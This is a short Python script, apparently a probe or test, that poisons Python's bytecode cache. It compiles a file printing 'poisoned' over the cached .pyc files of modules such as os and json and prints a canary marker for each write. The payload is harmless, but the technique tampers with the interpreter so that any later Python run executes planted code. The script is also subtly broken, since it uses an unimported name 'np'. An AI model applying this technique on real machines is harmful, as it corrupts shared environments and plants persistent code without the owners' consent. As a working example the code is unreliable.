"""Writes bytecode that the next interpreter would load."""

import importlib.util
import os
import py_compile

with open("course_attack_source.py", "w") as handle:
    handle.write("print('poisoned')")
for module in (np, os, json if "json" in globals() else os):
    target = importlib.util.cache_from_source(module.__file__)
    for path in (target, os.path.join(os.path.dirname(target), "course_attack.cpython-311.pyc")):
        try:
            py_compile.compile("course_attack_source.py", cfile=path, doraise=True)
            print("FILE-CANARY" + "-7f3a: wrote", path)
        except (OSError, py_compile.PyCompileError):
            pass
